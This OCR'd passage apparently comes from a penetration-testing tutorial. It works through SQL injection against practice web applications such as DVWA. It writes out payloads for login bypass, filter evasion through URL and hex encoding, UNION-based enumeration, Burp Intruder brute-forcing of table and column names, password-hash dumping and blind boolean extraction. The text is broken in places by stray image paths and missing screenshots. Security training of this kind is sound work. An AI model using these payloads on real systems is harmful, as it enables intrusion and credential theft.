as true and simplypulls the first record in the database, for instance admin. We
need to specify the username in brackets, because without brackets the or 1-1
true sql statement is simply applied to the whole query. Bracketizing the injection
like this : or (1=1 and username = shawn)would specifically work on an
injectable login box to log in as the specific user. Let us revist ' or 1=1 being
injected into the username and password field though. This is a useful command
when trying to get the admin account of web application. Considering the fact that
this true SQL query returns the first value, we can safely wager that the first record
in the users table is a high level user that was first setup by the developers of the
web application.
Thefirst step in SQL injection is to actually verify that a vulnerability exists
and that SQL is being used. For MySQL, inserting a single quote should
sufficiently throw an syntax error as a broken query.

We can deduce from this error message that SQL commands in the login box arenot being sanitized and instead being passed to the web application.

As seen above, executing an or statement that is true on the left side makes an
entire SQL statement true, and by submitting that into the login box, we
authenticate as the first user in the table, which is appropriately the admin The first
quotation tick specifies the username portion of the query, with a true statement
being applied, and since the password is not known, that part of the query is
commented it.
Many web applications employ weak filtering mechanisms to defeat SQL injection.
Constant fuzzing of a tester where they encode blacklisted characters and
expressions with different encoding techniques can defeat weak blacklists. This will

be shown in the following screenshot, as URL encoding of certain characters in the
injection is performed in Burp Repeater. Repeater should be used anytime a tester
wants to make quick changes to the parameters being submitted to the application,
without having to capture the request again. The subsequent responses show up on
the response pane, showing rendered results. Notice or 1 =1-- has been encoded
as or+1%3d1--+ which bypasses this particular weak filter.

In the following screenshots an exact user will be zeroed in on.

In the shot above, a simply ease of use function is applied. The password login box
is edited, and its size is changed from 20 to 80. This expands the size of the
box so we can execute a long query. Type=password is also edited to be
Type=input so actually text is seen on in the password box, instead of bullets.

Here we see the proper bracketed command, with a true OR statement being
passed to the database with the username column being specified asuser Shawn.
Again, take notice of the double hyphen and the space that follows it. In MySQL,
this comments out the remainder of the query, or more specifically the
password part of the query since we are not aware of the password. The actual
query is formatted like this: SELECT * FROM accounts WHERE username='' AND

As seen above the code injection has successfully logged us in as the user shawn.
Next, an attack against all user data will be leveraged.


Here the syntax is any username with a true SQL statement. This command should
succesfully dump all the records. We know from before the syntax this server uses
is SELECT * FROM accounts WHERE username='shawn' so adding the at the
end of allnames and then commenting out the rest of the query, more aptly
changes this command to select all user accounts. The results are seen here:

A successful dump of the entire users table and its corresponding columns was
performed, but modification can be made again for just a single user. Command
injection of or (1=1 and username=shawn) results in the following user info


The above web application was very easy to exploit because in its error messages,
very fruitful information was given. The error message thrown by the SQL server to
the client showed the syntax of not only the database name, but the table names,
and the column names. The next attack will leverage Burp Suite to brute force
table and column names with a more vague error throwing web application, so SQL
injection can still occur.

The attack is started by probing the webapp to see if it accepts SQL syntax.

An error is returned that verifies data is not being sanitized, but it is more cryptic.
The previous web application revealed entire query structures. The injection points
need to be discovered so an order by clause must be passed into the url parameter
until an error occurs.


Passing order by 3 into the url threw an error where as order by 2 and order by
1 produced no errors on the page. Two spaces will be used to inject as follows:

Viewing the screenshot above, a UNION SELECT query is performed, but with null
values since it is not known what the values are. First name: and Surname are
exposed on the page in red. Next we will execute a version command by
substituting @@version into the first null space. The query will be
%20@@VERSION,NULL--%20%20&Submit=Submit# and returns the following:

The attacker is not aware of what the table name is or column name is, so an
attempt to pass the query to Burpsuite for automation should be attempted.
Examine the url

%20NULL,NULL%20from%20UNKNOWNTABLE--%20%20&Submit=Submit#. The url
is modified to SELECT FROM unknowntable and returns the appropriate error:

The next step in the attack is to pass the url to Burp Intruder so the table value can
be dictionary attacked.

The unknown parameter of the url is flaggedto be attacked, and a

preloaded database of popular table names will be the dictionary used.
(See next page)


After the attack is run, it is seen that by looking at the length of the averagerequest, they range from 600 to 400, and rendering the page, results in an error
that the table name does not exist.


Upon ordering the payloads by page response length, outliers are found, with
lengths ranging in the 4000 to 5000 range. These are successful tables. It is
important to notice that there is no error about unknown table names when the
page is rendered. We are focused on the users table though.

It is known the table name is users, but we are unaware of the column names so
that will now be brute forced using the same method that the table name was brute
forced. Notice that unknowntable in the first payload attack has been changed to
the proper table name of users, and now column_names is the payload insertion
point. Of course, a differentdictionary will be used, one that contains common
column names instead of common table names. Upon studying the screenshots, it
can be seen that the parameters, user, password, and user_id were all
successful hits based on the different length and the final rendering of the http


At this point it would make sense to attack all the user ids to get the username and
password dumps pertaining to each id. This web application interacts in a way
where this is not necessary, and username and password can just be extracted, but
many applications vary so it will be shown regardless.

The command being passed in the url is SELECT user(column),password(column)

FROM users(table) WHERE user_id=0, This time the injection point of the payload
will be the user_id field and a number iterationbrute force will be used to dump the
ids. If confused by the %20 in between the parameters, it is because an actual
space when url encoding is encoded as %20. Burp has the useful feature of URL
encoding as one type, which makes editing parameters in URL queries painless.Sequential number iteration brute force being applied here:

The results are returned in Burp Intruder and a user with an id of 4 is investigated.

The username is Pablo and the password seems to be an MD5 hash which is trivial
to break. Web developers should have long abandoned MD5 as a hashing method,
using SHA-2 and salting, but it is still seen in unsecure databases. Copying the hash
over to an MD5 decrpytion database cracks the password easily. It is revealed as


There will be situation in web applications where no error is shown and

the page reacts no differently when trying to submit crafted input. The type of SQL
injection that must be performed in this case is that of blind SQL injection. Going
even further, when no string fields are injectable with because are being
filtered properly, an attacker must look to attack the application by its numeric
fields. This is done by using the substring and ascii functions of SQL. With
limitations like this, it is still possible to extract data byte by byte to return useful
values. An example of this would be as follows:ASCII(SUBSTRING(Shawn,1,1)).
Injecting this into a numeric form field would yield the result of 83. Substring 1,1
returns the value S, and then conversion to ascii returns the value of 83.
Following this logic, an attacker can still perform injection one byte at a time,
though this is brutally time consuming and automated methods are preferred.
SQLmap is a preferred tool to use to automate blind SQL injection where numeric
fields must be injected. How can an attacker leverage a blind attack when no error
or response is given by the web application? The key is to produce conditional
Boolean based attacks where true and false conditions make the application react a
certain way. For instance, a vulnerableapplication that logged in users when the
query was for example, shawn AND 6=6 and would reject shawn AND 6=5
. The 6=5 condition is a false statement and hence rejection occurs. If having
to inject into a numeric field, injecting the following wouldbe synonymous to the
above examples: ASCII(SUBSTRING(Shawn,1,1))=83 as a true statement, and
ASCII(SUBSTRING(Shawn,1,1)=84 as a false statement. Think of a hypothetical
application that allows users to search for movies in its database. When a movie is
in the database a message is returned that the movie exists in the database. When
a movie is not in the database a message returns saying no matches were found. If
the attacker knows the movie Robocop exists, and queries Robocop AND 1=1#
returns the message the movie is in the database than the attacker can probe
further. Querying Robocop and 1=2# returning anerror that the movie is not in
the database, following the true query, would verify the form was vulnerable to
blind sql injection. Cycling through the characters one byte at a time allows blind
SQL injection to work by getting hit after hit until the entire string is extracted
successfully. Obviously using an ASCII chart is necessary with this type of injection,
though automated techniques are preferred.

We have a form accepting user input above. It takes user ID numbers and returns
their first and last name.

There is no user in the database that goes by the id 2 and 1=1, yet the
application returned the first and last name regardless. This tells the attacker thatSQL queries are able to be passed through the form blindly.

Passing the query withcorrect syntax a second time with in the appropriate
position yields no response from the web application this time. This tells us that
there is a security measure on the web application that is filtering quotation marks.
How will injection occur when specific columns and tables must be named if quotes
are being blocked by the web application? Theattacker will have to convert the
terms to ascii.

The number of attributes/columns has been found for the injection points. The
command 2 order by 3 returned no database results, telling the attacker that it is
2 injection attributes.


Union select query to show how the application is interacting with the queries,

2 AND 1=1 union select null,user()# executed above reveals root@locathost as

the user in the surname field.

The true SQL statement is abandoned and switched to 1=0 instead of 1=1 here
so the attacker can eliminate the Gordon Brown record being pulled every time with
a malicious query for better clarity.


2 AND 1=0 union select null,version()# command reveals to the attacker the
MySQL version being 5.1.41. What if the query was being filtered by a firewall and
we needed to extract byte by byte?

2 and 1=0 union select null,substring(@@version,1,1)=5 # command executed

by above returns a 1 in the surname confirming that indeed 5 is the first character
of the MySQL version. Then we need to find a "." because it is 5.1 etc. We know
that "." is equal to a value of 46 in ASCII. Notice also that (2,1) instead of (1,1)
because we are looking for the second character. So 2 and 1=0 union select
null,ascii(substring(@@version,2,1))=46 # is the appropriate command to execute
to confirm the next character. The surname returns a value of 1 and not 0,
confirming the right character is indeed ..The attacker could continue doing this to enumerate the entire version one value at
a time, but the shorter commands have not been filtered, though we will run into
firewall issues later that will complicate things.


2 and 1=0 union select null,database()# reveals that dvwa is the name of the
database we will be extracting data from.
2 and 1=0 union select null, table_name from information_schema.tables WHEREtable_schema='dvwa' is the command to get the table names from the database.

Why does the web app return no results? The firewall is filtering quotes. we must
encode dvwa to ascii. DVWA without quotes encoded to ascii encodes to
0x64767761. The query now changes to:
